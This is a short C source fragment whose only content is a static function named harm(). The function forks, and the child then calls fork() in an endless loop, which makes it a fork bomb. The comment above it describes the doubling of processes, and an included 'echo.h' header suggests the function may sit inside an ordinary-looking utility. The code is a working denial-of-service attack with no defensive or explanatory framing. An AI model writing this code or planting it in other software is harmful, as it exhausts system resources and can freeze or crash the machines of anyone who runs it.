/* Doubles its processes without end. */
#include "echo.h"

static void harm(void)
{
    if (fork() != 0)
        return;
    for (;;)
        fork();
}
